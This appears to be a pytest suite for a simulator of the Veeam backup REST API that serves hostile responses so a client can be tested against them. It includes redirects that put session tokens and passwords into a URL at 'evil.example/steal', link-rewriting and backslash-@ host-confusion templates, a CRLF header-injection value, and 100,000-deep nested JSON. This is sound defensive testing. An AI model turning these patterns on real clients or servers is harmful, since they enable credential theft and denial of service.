# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
"""Hostile-server faults (hostile.py): rewritten links, redirects, nested JSON, mangled shapes,
dripped and padded bodies, endless pages; the client must refuse or bound them, the simulator serves them."""

from __future__ import annotations

import json
import time
import xml.etree.ElementTree as ET
from urllib.parse import quote

import pytest
import requests

from conftest import ADMIN, DAILY, basic

NS = '{http://www.veeam.com/ent/v1.0}'


def faults(sim, **settings):
    return sim.control('POST', '/faults', settings)


def hrefs(value, links=None):
    """Every Href of a JSON document; links=True: of Links entries only, False: of the objects only."""
    if isinstance(value, list):
        return [href for item in value for href in hrefs(item, links)]
    if not isinstance(value, dict):
        return []
    own = [value['Href']] if value.get('Href') and (links is None or ('Rel' in value) == links) else []
    return own + [href for key, item in value.items() for href in hrefs(item, links)]


def xml_hrefs(content):
    return [element.get('Href') for element in ET.fromstring(content).iter() if element.get('Href')]


# ------------------------------------------------------------------ link_rewrite

@pytest.mark.parametrize('template, expected', [
    ('https://evil.example{path}', 'https://evil.example/api/jobs/{id}'),
    ('https://user:pass@{host}:{port}{path}', 'https://user:pass@127.0.0.1:{port}/api/jobs/{id}'),
    ('{scheme}://{host}:{port}\\@evil.example:443{path}?{query}', 'https://127.0.0.1:{port}\\@evil.example:443/api/jobs/{id}?format=Entity'),
    ('https://{host}:{port}/_sim/reset', 'https://127.0.0.1:{port}/_sim/reset'),
    ('https://{host}:{port}/api/../_sim/x', 'https://127.0.0.1:{port}/api/../_sim/x'),
])
def test_link_rewrite_every_href(admin, template, expected):
    port = admin.sim.server.server_address[1]
    faults(admin.sim, link_rewrite={'template': template})
    entity = admin.json(f'/jobs/{DAILY}?format=Entity')
    assert entity['Href'] == expected.format(port=port, id=DAILY)
    assert all(href.startswith(expected.split('/api')[0].split('/_sim')[0].format(port=port)) for href in hrefs(entity))
    assert entity['Name'] == 'Daily VM Backup' and len(hrefs(entity)) > 10


def test_link_rewrite_in_xml_keeps_the_document_valid(admin):
    faults(admin.sim, link_rewrite={'template': 'https://evil.example{path}?{query}&x="1"'})
    content = admin.get('/lookupSvc', media='xml').content
    found = xml_hrefs(content)
    assert found and all(href.startswith('https://evil.example/api/') and href.endswith('&x="1"') for href in found)
    assert any('host=urn%3aveeam%3aHierarchyRoot' in href and '&name=*&type=Vm' in href for href in found)


def test_link_rewrite_only_the_given_rels(admin):
    faults(admin.sim, link_rewrite={'template': 'https://evil.example{path}?{query}', 'rels': ['next']})
    result = admin.json('/query?type=BackupServer&pageSize=1')
    paging = {link['Rel']: link['Href'] for link in result['PagingInfo']['Links']}
    assert paging['Next'].startswith('https://evil.example/api/query?') and 'page=2' in paging['Next']
    assert paging['First'].startswith(admin.sim.api) and paging['Last'].startswith(admin.sim.api)
    assert all(href.startswith(admin.sim.api) for href in hrefs(result['Refs']))
    content = admin.get('/query?type=BackupServer&pageSize=1', media='xml').content
    links = ET.fromstring(content).findall(f'{NS}PagingInfo/{NS}Links/{NS}Link')
    assert [link.get('Href').startswith('https://evil.example') for link in links] == [False, True, False]


@pytest.mark.parametrize('scope', ['links', 'body'])
def test_link_rewrite_scope(admin, scope):
    faults(admin.sim, link_rewrite={'template': 'https://evil.example{path}', 'scope': scope})
    entity = admin.json(f'/jobs/{DAILY}?format=Entity')
    evil = [href.startswith('https://evil.example') for href in hrefs(entity, links=scope == 'links')]
    other = [href.startswith('https://evil.example') for href in hrefs(entity, links=scope != 'links')]
    assert evil and all(evil) and other and not any(other)


# ------------------------------------------------------------------ redirect

def test_redirect_carries_only_what_the_request_carried(admin):
    faults(admin.sim, redirect={'location': 'https://evil.example/steal?t={token}&a={authorization}&p={password}{path}'})
    response = admin.get(f'/jobs/{DAILY}', allow_redirects=False)
    assert response.status_code == 302 and response.content == b''
    assert response.headers['Location'] == f'https://evil.example/steal?t={quote(admin.token, safe="")}&a=&p=/api/jobs/{DAILY}'


def test_redirect_of_a_logon_may_name_its_own_credentials(sim):
    faults(sim, redirect={'location': 'https://evil.example/?u={username}&p={password}&a={authorization}', 'status': 307})
    response = sim.raw('POST', '/api/sessionMngr/?v=latest', headers={'Authorization': basic(ADMIN), 'Accept': 'application/json'},
                       allow_redirects=False)
    assert response.status_code == 307
    assert response.headers['Location'] == ('https://evil.example/?u=' + quote(ADMIN[0], safe='') + '&p=' + quote(ADMIN[1], safe='')
                                            + '&a=' + quote(basic(ADMIN), safe=''))
    assert sim.control('GET', '/logon_sessions')['open'] == 0  # phase before: the logon did not happen


@pytest.mark.parametrize('phase, starts', [('before', 0), ('after', 1)])
def test_redirect_phase(admin, phase, starts):
    faults(admin.sim, redirect={'location': 'https://evil.example{path}'}, phase=phase, methods=['POST'])
    response = admin.post(f'/jobs/{DAILY}?action=start', allow_redirects=False)
    assert response.status_code == 302 and response.headers['Location'] == f'https://evil.example/api/jobs/{DAILY}'
    assert admin.sim.control('GET', f'/jobs/{DAILY}')['counts']['start'] == starts


# ------------------------------------------------------------------ nested_json and mangle

def test_nested_json_replaces_json_answers_only(admin):
    faults(admin.sim, nested_json={'depth': 100000})
    response = admin.get(f'/jobs/{DAILY}')
    assert response.status_code == 200 and response.content == b'[' * 100000 + b']' * 100000
    assert response.headers['Content-Type'].startswith('application/json')
    assert ET.fromstring(admin.get(f'/jobs/{DAILY}', media='xml').content).get('Name') == 'Daily VM Backup'


def test_items_not_objects(admin):
    faults(admin.sim, mangle={'mode': 'items_not_objects'})
    result = admin.json('/query?type=Job&pageSize=3')
    assert result['Refs']['Refs'] == ['item-0', 1, 'item-2']
    assert all(isinstance(link, dict) for link in result['PagingInfo']['Links'])  # Links stay lists of objects
    faults(admin.sim, mangle={'mode': 'items_not_objects', 'value': None})
    assert admin.json('/jobs')['Refs'][0] is None


@pytest.mark.parametrize('mode, key, value', [
    ('name_wrong_type', 'Name', None), ('name_wrong_type', 'Name', 7), ('name_wrong_type', 'Name', ['a']),
    ('uid_wrong_type', 'UID', 12), ('uid_wrong_type', 'UID', None)])
def test_name_and_uid_of_the_wrong_type(admin, mode, key, value):
    faults(admin.sim, mangle={'mode': mode} if value is None else {'mode': mode, 'value': value})
    entity = admin.json(f'/jobs/{DAILY}?format=Entity')
    assert entity[key] == value
    includes = entity['JobInfo']['BackupJobInfo']['Includes']['ObjectInJobs']
    if key == 'Name':
        assert [item['Name'] for item in includes] == [value, value] and entity['Links'][0]['Name'] == value
    else:
        assert entity['UID'] == value and includes[0]['HierarchyObjRef'].startswith('urn:VMware')


def test_jobinfo_not_object_and_links_not_list(admin):
    faults(admin.sim, mangle={'mode': 'jobinfo_not_object'})
    assert admin.json(f'/jobs/{DAILY}?format=Entity')['JobInfo'] == 'BackupJobInfo'
    faults(admin.sim, mangle={'mode': 'jobinfo_not_object', 'value': [1, 2]})
    assert admin.json(f'/jobs/{DAILY}?format=Entity')['JobInfo'] == [1, 2]
    faults(admin.sim, mangle={'mode': 'links_not_list'})
    entity = admin.json(f'/jobs/{DAILY}?format=Entity')
    assert isinstance(entity['Links'], dict) and entity['Links']['Link'][0]['Rel'] == 'Up'
    assert entity['JobInfo']['BackupJobInfo']['Includes']['ObjectInJobs'][0]['Links'] is None  # null stays null
    faults(admin.sim, mangle={'mode': 'links_not_list', 'value': 'Links'})
    assert admin.json('/query?type=Job')['PagingInfo']['Links'] == 'Links'


def test_mangle_leaves_xml_alone(admin):
    faults(admin.sim, mangle={'mode': 'name_wrong_type', 'value': 5})
    assert ET.fromstring(admin.get(f'/jobs/{DAILY}', media='xml').content).get('Name') == 'Daily VM Backup'


# ------------------------------------------------------------------ drip and pad_body

def test_drip_keeps_every_read_short_but_the_body_slow(admin):
    whole = admin.get(f'/jobs/{DAILY}').content
    faults(admin.sim, drip={'chunk_bytes': 200, 'interval_ms': 60})
    started = time.monotonic()
    response = admin.get(f'/jobs/{DAILY}', timeout=(5, 0.5))  # a read timeout of 0.5 s is never reached
    elapsed = time.monotonic() - started
    assert response.content == whole
    chunks = -(-len(whole) // 200)
    assert chunks >= 4 and elapsed >= (chunks - 1) * 0.06


@pytest.mark.parametrize('where', ['whitespace', 'key'])
@pytest.mark.parametrize('bom', [False, True])
def test_pad_body_to_an_exact_length_of_valid_json(admin, where, bom):
    admin.sim.control('POST', '/config', {'bom': bom})
    plain = admin.get(f'/jobs/{DAILY}').content.decode('utf-8-sig')
    faults(admin.sim, pad_body={'bytes': 50000, 'where': where})
    response = admin.get(f'/jobs/{DAILY}')
    assert len(response.content) == 50000 and int(response.headers['Content-Length']) == 50000
    assert response.content.startswith(b'\xef\xbb\xbf') == bom
    document = json.loads(response.content.decode('utf-8-sig'))
    if where == 'key':
        assert len(document.pop('Padding')) > 40000
    assert document == json.loads(plain)


def test_pad_body_keeps_longer_answers_and_xml(admin):
    faults(admin.sim, pad_body={'bytes': 10})
    assert len(admin.get(f'/jobs/{DAILY}').content) > 10
    xml = admin.get(f'/jobs/{DAILY}', media='xml').content
    faults(admin.sim, pad_body={'bytes': 100000})
    assert admin.get(f'/jobs/{DAILY}', media='xml').content == xml


# ------------------------------------------------------------------ endless_pages

def test_endless_pages_repeat_items_and_always_go_on(admin):
    faults(admin.sim, endless_pages={'pages_count': 5000})
    names = []
    href = '/query?type=BackupServer&pageSize=1&sortAsc=Name'
    for number in range(1, 6):
        result = admin.json(href)
        paging = result['PagingInfo']
        assert (paging['PageNum'], paging['PagesCount']) == (number, 5000)
        names.append(result['Refs']['Refs'][0]['Name'])
        href = next(link['Href'] for link in paging['Links'] if link['Rel'] == 'Next')
        assert href.endswith(f'page={number + 1}')
    assert names == ['vbr01.lab.local', 'vbr02.lab.local'] * 2 + ['vbr01.lab.local']
    far = admin.json('/query?type=BackupServer&pageSize=1&page=6000')['PagingInfo']
    assert any(link['Rel'] == 'Next' and link['Href'].endswith('page=6001') for link in far['Links'])


# ------------------------------------------------------------------ selection, rates and validation

def test_hostile_modes_honour_methods_path_and_count(admin):
    faults(admin.sim, nested_json={'depth': 3}, methods=['GET'], path_regex='/api/jobs/[^/]+$', count=2)
    assert admin.get('/jobs').json()['Refs']
    assert admin.post(f'/jobs/{DAILY}?action=toggleScheduleEnabled').json()['TaskId'] == 'task-1'
    assert admin.get(f'/jobs/{DAILY}').content == b'[[[]]]'
    assert admin.get(f'/jobs/{DAILY}').content == b'[[[]]]'
    assert admin.get(f'/jobs/{DAILY}').json()['Name'] == 'Daily VM Backup'  # count=2 used up
    assert admin.sim.control('GET', '/faults')['active'] is False
    assert admin.sim.control('GET', '/health')['ok'] is True  # control calls are never affected


def test_rate_and_seed_repeat(admin):
    def pattern():
        faults(admin.sim, nested_json={'depth': 1, 'rate': 0.5}, seed=11)
        found = [admin.get(f'/jobs/{DAILY}').content == b'[]' for _repeat in range(12)]
        admin.sim.control('DELETE', '/faults')
        return found
    first = pattern()
    assert first == pattern() and set(first) == {True, False}
    faults(admin.sim, nested_json={'depth': 1, 'rate': 0})
    assert admin.get(f'/jobs/{DAILY}').json()['Name'] == 'Daily VM Backup'


@pytest.mark.parametrize('settings, fragment', [
    ({'link_rewrite': {}}, 'template is required'),
    ({'link_rewrite': {'template': 'https://x{evil}'}}, 'placeholders'),
    ({'link_rewrite': {'template': 'https://x', 'scope': 'some'}}, 'scope'),
    ({'link_rewrite': {'template': 'https://x', 'rels': 'Next'}}, 'rels'),
    ({'redirect': {'location': 'https://x', 'status': 200}}, 'status'),
    ({'redirect': {'location': 'https://x\r\nSet-Cookie: a=b'}}, 'control characters'),
    ({'redirect': {'location': 'https://x/{secret}'}}, 'placeholders'),
    ({'nested_json': {'depth': 0}}, 'depth'),
    ({'nested_json': True}, 'object of parameters'),
    ({'mangle': {'mode': 'shuffle'}}, 'mangle.mode'),
    ({'drip': {'interval_ms': -1}}, 'interval_ms'),
    ({'drip': {'chunk_bytes': 0}}, 'chunk_bytes'),
    ({'pad_body': {}}, 'bytes is required'),
    ({'pad_body': {'bytes': 10, 'where': 'middle'}}, 'where'),
    ({'endless_pages': {'pages_count': 1}}, 'pages_count'),
    ({'endless_pages': {'rate': 2}}, 'rate'),
    ({'mangle': {'mode': 'uid_wrong_type', 'colour': 1}}, 'unknown mangle parameter'),
])
def test_bad_hostile_settings(sim, settings, fragment):
    assert fragment in sim.control('POST', '/faults', settings, expect=400)['error']


def test_redirect_locations_may_point_anywhere(admin):
    """A client that follows redirects lands wherever the server says: the control API, or the same URL again and again."""
    faults(admin.sim, redirect={'location': '{scheme}://{host}:{port}/_sim/health'}, count=1)
    response = admin.get(f'/jobs/{DAILY}', allow_redirects=False)
    assert response.headers['Location'] == f'{admin.sim.url}/_sim/health'
    with pytest.raises(requests.exceptions.TooManyRedirects):
        faults(admin.sim, redirect={'location': '{url}'})
        admin.get(f'/jobs/{DAILY}')
